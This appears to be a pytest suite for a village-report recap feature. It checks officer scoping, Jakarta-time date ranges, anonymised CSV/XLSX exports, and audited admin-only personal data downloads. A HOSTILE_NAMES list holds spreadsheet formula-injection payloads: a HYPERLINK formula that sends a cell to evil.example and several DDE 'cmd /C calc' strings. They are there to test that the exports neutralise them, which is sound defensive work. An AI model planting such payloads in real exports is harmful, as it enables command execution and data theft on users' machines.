"""The TIMPORA recap: counts for the period, the officer's villages only, no identities."""

import csv
import io
import json
from datetime import UTC
from datetime import date
from datetime import datetime

import openpyxl
import pytest
from bs4 import BeautifulSoup
from sqlalchemy import event
from sqlalchemy import select

from domain import AuditKind
from domain import EventKind
from domain import Status
from domain import spreadsheet
from extensions import db
from models import AuditEntry
from models import Event
from models import Village
from services.recap import build_recap
from tests import factories
from tests.factories import make_report
from tests.recap_expected import BLOCKS
from tests.recap_expected import as_figures
from tests.recap_expected import assert_matches
from tests.recap_expected import expected_cells
from tests.recap_expected import seed_period_reports

JAN = datetime(2026, 1, 15, 3, tzinfo=UTC)


def seed_reports(app):
    with app.app_context():
        make_report("Tanjung Sari", created_at=JAN, urgency="urgent",
                    reporter_name="Pak Rahmat", description="Seen at the jetty, two men.")
        forwarded = make_report("Pemping", created_at=JAN, status=Status.FORWARDED)
        db.session.add(Event(report=forwarded, kind=EventKind.STATUS, from_status=Status.IN_REVIEW,
                             to_status=Status.FORWARDED))
        make_report("Kasu", created_at=JAN)  # not one of petugas's villages
        make_report("Tanjung Sari", created_at=datetime(2026, 3, 1, tzinfo=UTC))  # outside
        db.session.commit()
        return forwarded.code


def test_recap_counts_the_period_for_the_officers_villages(app, auth, client):
    code = seed_reports(app)
    auth.sign_in_as("petugas")
    page = client.get("/recap/?date_from=2026-01-01&date_to=2026-01-31").data.decode()
    assert "Tanjung Sari" in page and "Pemping" in page
    assert "Kasu" not in page.split("<main")[1].split("</main>")[0]
    assert code in page  # forwarded list
    assert "Person 1" not in page and "K0000000" not in page and "Pak Rahmat" not in page
    assert "Singapura" in page  # nationality counts, named in Indonesian


def test_admin_sees_every_village(app, auth, client):
    seed_reports(app)
    auth.sign_in_as("admin")
    page = client.get("/recap/?date_from=2026-01-01&date_to=2026-01-31").data.decode()
    assert "Kasu" in page


def test_recap_csv(app, auth, client):
    code = seed_reports(app)
    auth.sign_in_as("admin")
    response = client.get("/recap/recap.csv?date_from=2026-01-01&date_to=2026-01-31")
    assert response.mimetype == "text/csv"
    body = response.data.decode()
    assert code in body and "Pemping" in body and "Person 1" not in body


def test_bad_dates_fall_back_with_a_message(auth, client):
    auth.sign_in_as("petugas")
    assert client.get("/recap/?date_from=yesterday&date_to=2026-13-45").status_code == 200
    page = client.get("/recap/?date_from=2026-02-01&date_to=2026-01-01").data.decode()
    assert "sebelum tanggal mulai" in page


def test_days_are_counted_in_jakarta_time(app, auth, client):
    with app.app_context():
        make_report("Tanjung Sari", created_at=datetime(2026, 1, 31, 18, tzinfo=UTC))  # 1 Feb WIB
    auth.sign_in_as("admin")
    january = client.get("/recap/?date_from=2026-01-01&date_to=2026-01-31").data.decode()
    assert "Tidak ada laporan" in january


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'Desa "Baru", =1',
]


def read_back(cell):
    """What a spreadsheet shows of a cell: the text after the neutralising quote."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(spreadsheet.FORMULA_STARTS) else cell


def test_recap_csv_neutralises_formulas_and_round_trips_hostile_names(app, auth, client):
    """Villages named like formulas (written straight to the database: the admin form refuses tabs
    and line breaks) come back from the CSV as text a spreadsheet will not run, and exactly."""
    with app.app_context():
        for index, name in enumerate(HOSTILE_NAMES):
            db.session.add(Village(name=name, kecamatan="x", kabupaten="x", province="x"))
            db.session.flush()
            report = make_report(name, created_at=JAN, status=Status.FORWARDED)
            report.code = f"ZZZZ-{index}AAA"
        db.session.commit()
    auth.sign_in_as("admin")
    response = client.get("/recap/recap.csv?date_from=2026-01-01&date_to=2026-01-31")
    rows = list(csv.reader(io.StringIO(response.data.decode(), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(spreadsheet.FORMULA_STARTS)]
    shown = [read_back(cell) for cell in cells]
    for name in HOSTILE_NAMES:  # once in the villages' table, once in the forwarded reports
        assert shown.count(name) == 2, name
    assert response.data.decode().startswith('"')  # every cell quoted


def test_safe_cell_leaves_ordinary_values_alone():
    assert spreadsheet.safe_cell("Tanjung Sari") == "Tanjung Sari"
    assert spreadsheet.safe_cell(-5) == -5 and spreadsheet.safe_cell(12) == 12
    assert spreadsheet.safe_cell("-5") == "'-5"
    assert [spreadsheet.safe_cell(start + "x") for start in "=+-@\t\r"] == [
        "'" + start + "x" for start in "=+-@\t\r"]


# Issue 14, points 2, 3 and 7: every figure of the page, the CSV and the XLSX against the same
# figures computed again from the seeded rows (tests/recap_expected.py), for each scope.

JANUARY = (date(2026, 1, 1), date(2026, 1, 31))
OFFICER_VILLAGES = ("Tanjung Sari", "Sekanak Raya", "Pemping")


def page_figures(html):
    page = BeautifulSoup(html, "html.parser")
    found = {}
    for block in BLOCKS:
        table = page.select_one(f"#table-{block}")
        columns = len(BLOCKS[block])
        rows = [[*labels, *[""] * (columns - len(labels)),
                 *(cell.get_text(strip=True) for cell in row.select("td"))]
                for row in table.select("tbody tr, tfoot tr")
                for labels in [row.th.get_text(strip=True).split(" · ")]]
        found[block] = as_figures(block, rows, len(BLOCKS[block]))
        svg = page.select_one(f"#block-{block} ~ .figure svg.chart, section:has(#block-{block}) svg")
        if block != "summary":
            assert svg["role"] == "img" and svg.title.get_text() and svg["aria-labelledby"]
            assert len(svg.select("g.bar-row")) == len(table.select("tbody tr"))
    return found


def csv_figures(body):
    rows = list(csv.reader(io.StringIO(body, newline="")))
    sections, section = [], []
    for row in rows:
        if row:
            section.append(row)
        else:
            sections.append(section)
            section = []
    sections.append(section)
    found = {}
    for block, section in zip(BLOCKS, sections[1:], strict=False):
        _title, header, *rows = section
        found[block] = as_figures(block, [[read_back(cell) for cell in row] for row in rows],
                                  len(header) - 2)
    return found


def xlsx_figures(data):
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    found = {}
    for block, sheet in zip(BLOCKS, workbook.worksheets[1:], strict=False):
        header, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
        assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
        found[block] = as_figures(block, rows, len(header) - 2)
    return found


def scope_value(app, kind, name):
    with app.app_context():
        if kind == "officer":
            return f"officer-{factories.user(name).id}"
        return f"village-{factories.village(name).id}"


@pytest.mark.parametrize(("identity", "scope", "villages"), [
    ("admin", None, None),
    ("admin", ("officer", "petugas"), OFFICER_VILLAGES),
    ("admin", ("village", "Kasu"), ("Kasu",)),
    ("petugas", None, OFFICER_VILLAGES),
    ("petugas", ("village", "Pemping"), ("Pemping",)),
])
def test_every_figure_matches_the_seeded_rows_on_the_page_csv_and_xlsx(app, auth, client, identity,
                                                                       scope, villages):
    with app.app_context():
        seed_period_reports()
    expected = expected_cells(app, villages, *JANUARY)
    assert sum(expected["summary"][("Laporan",)]) > 10  # the seed reaches both periods
    assert any(value for values in expected["waits"].values() for value in values)
    auth.sign_in_as(identity)
    query = "date_from=2026-01-01&date_to=2026-01-31"
    if scope:
        query += f"&scope={scope_value(app, *scope)}"
    found = {
        "page": page_figures(client.get(f"/recap/?{query}").data.decode()),
        "csv": csv_figures(client.get(f"/recap/recap.csv?{query}").data.decode()),
        "xlsx": xlsx_figures(client.get(f"/recap/recap.xlsx?{query}").data),
    }
    for source, blocks in found.items():
        assert set(blocks) == set(BLOCKS), source
        for block, (figures, totals) in blocks.items():
            assert_matches(expected, block, figures, totals)


def test_the_recap_costs_the_same_statements_for_few_reports_or_many(app):
    """No statement per report: the count of SQL statements does not grow with the reports."""
    def statements():
        seen = []
        with app.app_context():
            listener = lambda *args: seen.append(args[2])  # noqa: E731
            event.listen(db.engine, "before_cursor_execute", listener)
            try:
                build_recap(None, *JANUARY)
            finally:
                event.remove(db.engine, "before_cursor_execute", listener)
        return len(seen)

    with app.app_context():
        seed_period_reports(count=5)
    few = statements()
    with app.app_context():
        seed_period_reports(count=60, seed=15)
    # Each period: counts, nationalities, waits and 3 for the standings; then the forwarded list.
    assert statements() == few <= 13


def test_an_officer_cannot_widen_the_scope(app, auth, client):
    with app.app_context():
        seed_period_reports(count=20)
    auth.sign_in_as("petugas")
    for scope in (scope_value(app, "village", "Kasu"), scope_value(app, "officer", "petugas")):
        response = client.get(f"/recap/?date_from=2026-01-01&date_to=2026-01-31&scope={scope}")
        assert response.status_code == 200
        page = response.data.decode()
        assert "Pilih desa dari daftar" in page
        assert "Kasu" not in page.split("<main")[1]
        csv_body = client.get(f"/recap/recap.csv?date_from=2026-01-01&date_to=2026-01-31&scope={scope}")
        assert "Kasu" not in csv_body.data.decode()


def audit_downloads(app):
    with app.app_context():
        return [(entry.kind, entry.actor.username, json.loads(entry.changes),
                 entry.village.name if entry.village else None)
                for entry in db.session.scalars(select(AuditEntry).order_by(AuditEntry.id))
                if entry.kind in (AuditKind.RECAP_DOWNLOADED, AuditKind.PERSONAL_DATA_EXPORTED)]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_personal_data_export_is_for_admins_and_every_download_is_audited(app, auth, client, file_format):
    with app.app_context():
        report = make_report("Kasu", created_at=JAN, reporter=None, reporter_name="Bu Sari",
                             reporter_phone="0812 3456 7890")
        report.persons[0].passport_no = "X1234567"
        make_report("Tanjung Sari", created_at=JAN)
        db.session.commit()
        kasu = scope_value(app, "village", "Kasu")
    query = f"date_from=2026-01-01&date_to=2026-01-31&scope={kasu}"
    for identity in ("petugas", "desa"):
        auth.sign_in_as(identity)
        assert client.get(f"/recap/personal.{file_format}?{query}").status_code == 403
    assert audit_downloads(app) == []
    auth.sign_in_as("admin")
    response = client.get(f"/recap/personal.{file_format}?{query}")
    assert response.status_code == 200
    if file_format == "csv":
        cells = [cell for row in csv.reader(io.StringIO(response.data.decode())) for cell in row]
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.data)).worksheets[0]
        cells = [cell for row in sheet.iter_rows(values_only=True) for cell in row]
    assert {"Bu Sari", "0812 3456 7890", "Person 1", "X1234567", "Singapura", "Kasu"} <= set(cells)
    assert "Tanjung Sari" not in cells  # the scope holds
    auth.sign_in_as("petugas")
    january = "date_from=2026-01-01&date_to=2026-01-31"
    assert client.get(f"/recap/recap.{file_format}?{january}").status_code == 200
    entries = audit_downloads(app)
    assert [(kind, actor, village) for kind, actor, _changes, village in entries] == [
        (AuditKind.PERSONAL_DATA_EXPORTED, "admin", "Kasu"), (AuditKind.RECAP_DOWNLOADED, "petugas", None)]
    assert entries[0][2] == {"format": [None, file_format], "scope": [None, "Kasu"],
                             "period": [None, "2026-01-01 – 2026-01-31"], "rows": [None, 1]}
    assert entries[1][2]["scope"] == [None, "Semua desa saya"]
    auth.sign_in_as("admin")
    log = client.get("/audit/?log=accounts").data.decode()
    assert "Data pribadi diunduh" in log and "Rekap diunduh" in log and "2026-01-01 – 2026-01-31" in log


def test_the_shared_recap_downloads_name_nobody(app, auth, client):
    with app.app_context():
        report = make_report("Kasu", created_at=JAN, reporter=None, reporter_name="Bu Sari",
                             reporter_phone="0812 3456 7890")
        report.persons[0].passport_no = "X1234567"
        db.session.commit()
    auth.sign_in_as("admin")
    for file_format in ("csv", "xlsx"):
        body = client.get(f"/recap/recap.{file_format}?date_from=2026-01-01&date_to=2026-01-31").data
        if file_format == "xlsx":
            workbook = openpyxl.load_workbook(io.BytesIO(body))
            body = " ".join(str(cell) for sheet in workbook for row in sheet.iter_rows(values_only=True)
                            for cell in row).encode()
        for secret in (b"Bu Sari", b"0812 3456 7890", b"Person 1", b"X1234567"):
            assert secret not in body


def test_recap_xlsx_keeps_hostile_names_as_text(app, auth, client):
    with app.app_context():
        for index, name in enumerate(HOSTILE_NAMES):
            db.session.add(Village(name=name, kecamatan="x", kabupaten="x", province="x"))
            db.session.flush()
            report = make_report(name, created_at=JAN, status=Status.FORWARDED)
            report.code = f"ZZZZ-{index}AAA"
        db.session.commit()
    auth.sign_in_as("admin")
    response = client.get("/recap/recap.xlsx?date_from=2026-01-01&date_to=2026-01-31")
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    values = [cell.value for cell in cells]
    for name in HOSTILE_NAMES:  # once among the villages, once among the forwarded reports
        # XML reads a carriage return back as a line feed: still text, never a formula.
        assert values.count(name.replace("\r", "\n")) == 2, name
    assert all(cell.quotePrefix for cell in cells
               if isinstance(cell.value, str) and cell.value.startswith(spreadsheet.FORMULA_STARTS))
